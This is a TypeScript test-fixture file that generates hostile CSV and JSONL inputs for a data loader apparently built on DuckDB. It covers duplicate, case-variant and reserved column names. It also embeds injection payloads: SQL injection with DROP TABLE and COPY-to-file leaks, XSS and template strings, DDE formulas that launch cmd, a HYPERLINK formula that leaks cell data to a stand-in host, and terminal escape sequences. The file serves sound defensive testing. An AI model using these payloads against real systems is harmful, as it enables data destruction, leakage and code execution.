// Duplicate and empty names, markup and SQL in names and values.
import { csv, eventLines, type HostileInput, isoHour, quoted, utf8 } from '../make.ts';

const H = 'user,time,event';
const good = (n: number, from = 0) => eventLines(n, { from });
/** `n` good rows with `extra` appended to each as more fields. */
const withExtra = (n: number, extra: (i: number) => string) => good(n).map((l, i) => `${l},${extra(i)}`);

function names(): HostileInput[] {
	return [
		{
			name: 'the same column name three times',
			kind: 'names',
			files: [
				{
					name: 'dup-names.csv',
					bytes: utf8(
						csv(
							`${H},event,event`,
							withExtra(6, (i) => `x${i},y${i}`)
						)
					)
				}
			],
			expect: { loads: { rows: 6, users: 5, events: 3, columns: ['event', 'event_1', 'event_2'] } }
		},
		{
			name: 'names that differ only in case',
			kind: 'names',
			files: [
				{
					name: 'case-names.csv',
					bytes: utf8(
						csv(
							`${H},USER,User`,
							withExtra(6, (i) => `A${i},B${i}`)
						)
					)
				}
			],
			expect: { loads: { rows: 6, users: 5, columns: ['user', 'USER_1', 'User_2'] } },
			why: 'DuckDB names are case-insensitive: the later ones get suffixes, the first (lower case) is the user'
		},
		{
			name: 'empty column names',
			kind: 'names',
			files: [
				{
					name: 'empty-names.csv',
					bytes: utf8(
						csv(
							`${H},,`,
							withExtra(5, (i) => `${i},${i * 2}`)
						)
					)
				}
			],
			expect: { loads: { rows: 5, users: 5 } }
		},
		{
			name: 'a header of blanks',
			kind: 'names',
			files: [{ name: 'blank-header.csv', bytes: utf8(csv(' , , ', good(5))) }],
			args: ['--map', 'user=column0,time=column1,event=column2'],
			expect: { loads: { rows: 5, users: 5 } },
			why: 'blank names become column<i>: mapped by those names the rows load'
		},
		{
			name: "names of the engine's own columns",
			kind: 'names',
			files: [
				{
					name: 'own-names.csv',
					bytes: utf8(
						csv(
							`${H},__user,__time,__row,__file,__event`,
							withExtra(5, (i) => `x${i},bad,${-i},f,ev`)
						)
					)
				}
			],
			expect: {
				loads: {
					rows: 5,
					users: 5,
					events: 3,
					columns: ['user_original', 'time_original', 'row_original', 'file_original', 'event_original']
				}
			},
			page: true
		},
		{
			name: 'a JSON record with a key twice',
			kind: 'names',
			files: [
				{
					name: 'dup-keys.jsonl',
					bytes: utf8(
						good(3)
							.map((l, i) => {
								const [u, t, e] = l.split(',');
								return `{"user":"first${i}","time":"${t}","event":"${e}","user":"${u}"}`;
							})
							.join('\n') + '\n'
					)
				}
			],
			expect: { loads: { rows: 3, users: 3 } },
			why: 'JSON.parse keeps the last of a repeated key'
		}
	];
}

const SQL_NAMES = [
	`it's time`,
	`a': 'VARCHAR'})); COPY (SELECT 42) TO 'hostile-copy.csv'; --`,
	`"); ATTACH 'hostile.db' AS p; --`,
	`back\\slash`,
	`semi;colon`,
	`new\nline`,
	`<script>alert(1)</script>`
];
const SQL_VALUES = [
	`'); DROP TABLE events; --`,
	`' OR '1'='1`,
	`"; COPY (SELECT * FROM events) TO 'hostile-leak.csv'; --`,
	`<img src=x onerror=alert(1)>`,
	`\${7*7}{{7*7}}<%= 7*7 %>`,
	`=HYPERLINK("http://example.com/?leak="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`
];

function markupSql(): HostileInput[] {
	return [
		{
			name: 'SQL and markup in column names',
			kind: 'markup-sql',
			files: [
				{
					name: 'sql-names.csv',
					bytes: utf8(
						csv(
							[H, ...SQL_NAMES.map(quoted)].join(','),
							withExtra(4, (i) => SQL_NAMES.map((_, k) => i * k).join(','))
						)
					)
				}
			],
			expect: { loads: { rows: 4, users: 4, columns: SQL_NAMES } },
			page: true
		},
		{
			name: 'SQL, markup and formulas in values',
			kind: 'markup-sql',
			files: [
				{
					name: 'sql-values.csv',
					bytes: utf8(
						csv(
							H,
							SQL_VALUES.map((v, i) => `${quoted(v)},${isoHour(i)},${quoted(SQL_VALUES[(i + 1) % 8])}`)
						)
					)
				}
			],
			expect: { loads: { rows: 8, rejected: 0, users: 8, events: 8 } },
			page: true
		},
		{
			name: 'SQL and markup as JSON keys and values',
			kind: 'markup-sql',
			files: [
				{
					name: 'sql.jsonl',
					bytes: utf8(
						SQL_VALUES.slice(0, 4)
							.map((v, i) =>
								JSON.stringify({ user: v, time: isoHour(i), event: SQL_NAMES[i], [SQL_NAMES[i + 1]]: v })
							)
							.join('\n') + '\n'
					)
				}
			],
			expect: { loads: { rows: 4, users: 4, events: 4, columns: SQL_NAMES.slice(1, 5) } }
		},
		{
			name: 'terminal escapes in names and values',
			kind: 'markup-sql',
			files: [
				{
					name: 'escapes.csv',
					bytes: utf8(
						csv(`${H},"\u001b[31mred"`, [
							`u1,${isoHour(0)},\u001b]0;owned\u0007,1`,
							`u2,${isoHour(1)},"ok\rforged",2`,
							`u3,${isoHour(2)},\u009b2J,3`
						])
					)
				}
			],
			expect: { loads: { rows: 3, users: 3, events: 3 } }
		},
		{
			name: 'markup in the file name',
			kind: 'markup-sql',
			files: [{ name: '<img src=x onerror=alert(1)>.csv', bytes: utf8(csv(H, good(4))) }],
			expect: { loads: { rows: 4, users: 4 } },
			page: true
		}
	];
}

export const text = (): HostileInput[] => [...names(), ...markupSql()];
